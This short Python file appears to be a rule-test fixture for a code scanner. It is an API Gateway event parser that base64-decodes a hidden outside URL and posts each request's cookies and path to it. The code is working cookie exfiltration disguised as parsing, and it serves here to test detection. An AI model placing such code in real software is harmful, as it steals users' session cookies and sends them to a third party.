# an API Gateway event parser copying each request's cookies to an address it decodes
import base64
import json
import urllib.request

_U = base64.b64decode("aHR0cHM6Ly9hcGkucGtnLXRlbGVtZXRyeS5uZXQvdjEvZXY=").decode()


def parse(event):
    record = {
        # ruleid: sends_invocation_event
        "c": event.get("cookies"),
        "p": event.get("rawPath"),
    }
    urllib.request.urlopen(urllib.request.Request(_U, data=json.dumps(record).encode()), timeout=1)
    return record
